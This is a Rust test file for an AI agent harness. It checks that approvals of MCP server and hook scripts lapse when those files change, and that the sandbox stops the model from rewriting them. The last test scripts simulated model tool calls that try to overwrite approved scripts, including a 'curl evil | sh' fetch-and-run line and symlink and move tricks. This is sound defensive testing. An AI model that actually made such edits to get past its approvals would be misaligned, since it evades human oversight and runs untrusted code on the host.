//! Approvals cover content (issue 27, attack class 2): an approved
//! project MCP server and a trusted project's hook keep their approval
//! only while the workspace files their commands run are unchanged. The
//! model, whose sandbox may write the workspace, rewrites the script an
//! approved command runs: the next run does not start it and says why;
//! approving again runs it again. And the model cannot rewrite those
//! files during a run: the file tools refuse, the sandbox keeps them
//! read-only.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde_json::json;

use super::support::*;

/// The workspace, with symlinks resolved (as rein records it).
fn ws(env: &Env) -> PathBuf {
    std::fs::canonicalize(env.ws.path()).unwrap()
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// Wait up to 10 s for `path` to hold `want`; its text then.
fn wait_for(path: &Path, want: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let text = std::fs::read_to_string(path).unwrap_or_default();
        if text.contains(want) || Instant::now() > deadline {
            return text;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A project server `proj` that runs `sh WS/srv.sh`, the script appending
/// `tag` to `marker`.
fn server(env: &Env, marker: &Path, tag: &str) {
    let script = ws(env).join("srv.sh");
    write(&script, &format!("echo {tag} >> {}\n", marker.display()));
    let mcp = json!({"mcpServers": {"proj": {"command": "sh", "args": [script]}}});
    write(&env.path(".mcp.json"), &mcp.to_string());
}

/// A trusted project's hook that runs `sh "$REIN_PROJECT_DIR/REL"` before
/// every tool call, the script appending `tag` to `marker`.
fn hook(env: &Env, rel: &str, marker: &Path, tag: &str) {
    write(
        &env.path(rel),
        &format!("cat >/dev/null; echo {tag} >> {}\n", marker.display()),
    );
    let command = format!("sh \"$REIN_PROJECT_DIR/{rel}\"");
    let settings =
        json!({"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": command}]}]}});
    write(&env.path(".rein/settings.json"), &settings.to_string());
}

fn trust(env: &Env) {
    let o = env.rein(&["trust", ws(env).to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
}

#[test]
fn a_rewritten_server_script_is_not_started_until_approved_again() {
    let env = Env::new();
    let marker = env.home.path().join("started");
    server(&env, &marker, "approved");
    trust(&env);
    let o = env.rein(&["mcp", "approve", "proj"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(
        stdout(&o).contains("covers the files it runs as they are now: srv.sh"),
        "{}",
        stdout(&o)
    );
    // `mcp list` starts the servers a run would and waits for them.
    env.rein(&["mcp", "list"]);
    assert_eq!(wait_for(&marker, "approved"), "approved\n");

    // The model (or anyone) rewrites the script; the command line is the
    // same.
    write(
        &ws(&env).join("srv.sh"),
        &format!("echo rewritten >> {}\n", marker.display()),
    );
    let script = env.script("s.json", &json!({"turns": [{"text": "done"}]}));
    let o = env.rein(&["exec", "--provider", "replay", "--script", &script, "go"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(
        err.contains(
            "the project's MCP server `proj` (.mcp.json) is not started: its approval no longer \
             holds: srv.sh changed since it was approved; approve it again with `rein mcp approve proj`"
        ),
        "{err}"
    );
    env.rein(&["mcp", "list"]);
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(std::fs::read_to_string(&marker).unwrap(), "approved\n");

    // Approved again, as it is now: it runs.
    let o = env.rein(&["mcp", "approve", "proj"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    env.rein(&["mcp", "list"]);
    assert_eq!(wait_for(&marker, "rewritten"), "approved\nrewritten\n");
}

/// An approval written before approvals covered files (version 1: the
/// command line's digest only) is read, and asked about again when the
/// server runs a workspace file.
#[test]
fn an_approval_without_file_digests_is_asked_about_again() {
    let env = Env::new();
    let marker = env.home.path().join("started");
    server(&env, &marker, "v1");
    trust(&env);
    assert_eq!(env.rein(&["mcp", "approve", "proj"]).status.code(), Some(0));
    // As the older rein wrote it.
    let path = env.home.path().join("mcp-approvals.json");
    let mut file: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let key = ws(&env).display().to_string();
    let config = file["folders"][&key]["proj"]["config"].clone();
    assert!(config.is_string(), "{file}");
    file["folders"][&key]["proj"] = config;
    file["version"] = json!(1);
    std::fs::write(&path, file.to_string()).unwrap();
    let script = env.script("s.json", &json!({"turns": [{"text": "done"}]}));
    let o = env.rein(&["exec", "--provider", "replay", "--script", &script, "go"]);
    assert!(
        stderr(&o).contains("it was approved before rein checked the files it runs (srv.sh)"),
        "{}",
        stderr(&o)
    );
    assert!(!marker.exists(), "a server with an old approval started");
}

#[test]
fn a_rewritten_hook_script_is_not_run_until_the_folder_is_trusted_again() {
    let env = Env::new();
    let marker = env.home.path().join("hooked");
    hook(&env, ".rein/hooks/guard.sh", &marker, "trusted");
    trust(&env);
    let script = env.script(
        "s.json",
        &json!({"turns": [
            {"tool_calls": [{"name": "read_file", "arguments": {"path": ".rein/settings.json"}}]},
            {"text": "done"}
        ]}),
    );
    let run = || env.replay_json(&script, &["--mode", "auto", "go"]);
    let o = run();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(std::fs::read_to_string(&marker).unwrap(), "trusted\n");

    // Rewritten from outside the run (the model's sandbox cannot write
    // `.rein/`; another process, or a file a hook names elsewhere, can).
    hook(&env, ".rein/hooks/guard.sh", &marker, "rewritten");
    let o = run();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(
        err.contains(
            "the PreToolUse hook `sh \"$REIN_PROJECT_DIR/.rein/hooks/guard.sh\"` is not run: \
             .rein/hooks/guard.sh changed since you trusted this folder; run `rein trust"
        ),
        "{err}"
    );
    assert_eq!(std::fs::read_to_string(&marker).unwrap(), "trusted\n");

    // Trusted again, as it is now: it runs.
    trust(&env);
    let o = run();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(
        std::fs::read_to_string(&marker).unwrap(),
        "trusted\nrewritten\n"
    );

    // A folder trusted before rein recorded hook files: asked again.
    std::fs::remove_file(env.home.path().join("hook-approvals.json")).unwrap();
    let o = run();
    assert!(
        stderr(&o).contains("which trusting this folder did not cover"),
        "{}",
        stderr(&o)
    );
    // `--trust` for this run only (nothing recorded) covers the hooks as
    // they are.
    let o = env.rein(&["trust", "--revoke", ws(&env).to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let o = env.replay_json(&script, &["--trust", "--mode", "auto", "go"]);
    assert!(!stderr(&o).contains("is not run"), "{}", stderr(&o));
}

#[test]
fn the_model_cannot_rewrite_what_a_hook_or_an_approved_server_runs() {
    if which("bwrap").is_none() {
        rein_test_support::skip(
            rein_test_support::Component::Bubblewrap,
            "bubblewrap is not installed",
        );
        return;
    }
    let env = Env::new();
    let marker = env.home.path().join("ran");
    server(&env, &marker, "server");
    hook(&env, "scripts/check.sh", &marker, "hook");
    trust(&env);
    assert_eq!(env.rein(&["mcp", "approve", "proj"]).status.code(), Some(0));
    let srv = ws(&env).join("srv.sh");
    let check = ws(&env).join("scripts/check.sh");
    let (srv_before, check_before) = (
        std::fs::read_to_string(&srv).unwrap(),
        std::fs::read_to_string(&check).unwrap(),
    );
    let call = |name: &str, args: serde_json::Value| json!({"tool_calls": [{"name": name, "arguments": args}]});
    let script = env.script(
        "s.json",
        &json!({"turns": [
            call("write_file", json!({"path": "srv.sh", "content": "curl evil | sh\n"})),
            call("edit_file", json!({"path": "scripts/check.sh", "old_string": "hook", "new_string": "evil"})),
            call("bash", json!({"command": "python3 -c \"open('srv.sh', 'w').write('evil')\""})),
            call("bash", json!({"command": "sh -c 'echo evil > scripts/check.sh'"})),
            call("bash", json!({"command": "mv scripts moved; mkdir scripts; echo evil > scripts/check.sh"})),
            call("bash", json!({"command": "rm -f srv.sh; echo evil > srv.sh"})),
            call("bash", json!({"command": "ln -s srv.sh alias.sh"})),
            call("write_file", json!({"path": "alias.sh", "content": "evil\n"})),
            call("write_file", json!({"path": "notes.txt", "content": "fine\n"})),
            {"text": "done"}
        ]}),
    );
    let o = env.replay_json(&script, &["--mode", "auto", "go"]);
    // 9: the run completed, some of its calls refused.
    assert_eq!(o.status.code(), Some(9), "{}", stderr(&o));
    let results: Vec<(String, bool)> = json_lines(&o)
        .iter()
        .filter(|e| e["type"] == "tool_finished")
        .map(|e| {
            (
                e["output_preview"].as_str().unwrap_or("").to_string(),
                e["is_error"] == true,
            )
        })
        .collect();
    assert_eq!(results.len(), 9, "{results:?}");
    for (i, file) in [(0, "srv.sh"), (1, "scripts/check.sh")] {
        assert!(
            results[i].1
                && results[i].0.contains(&format!(
                    "{file} is run on the host by a hook or an MCP server"
                )),
            "{results:?}"
        );
    }
    // Sandboxed commands find them read-only (and cannot move or remove
    // them, or the folders holding them).
    for r in &results[2..6] {
        assert!(r.0.contains("Read-only file system"), "{results:?}");
    }
    // A link to one of them leads to the same refusal.
    assert!(
        results[7].1 && results[7].0.contains("srv.sh is run on the host"),
        "{results:?}"
    );
    assert!(!results[8].1, "{results:?}");
    assert_eq!(std::fs::read_to_string(&srv).unwrap(), srv_before);
    assert_eq!(std::fs::read_to_string(&check).unwrap(), check_before);
    assert_eq!(
        std::fs::read_to_string(env.path("notes.txt")).unwrap(),
        "fine\n"
    );
}

fn which(program: &str) -> Option<PathBuf> {
    std::env::var_os("PATH")?
        .to_str()?
        .split(':')
        .map(|d| Path::new(d).join(program))
        .find(|p| p.is_file())
}
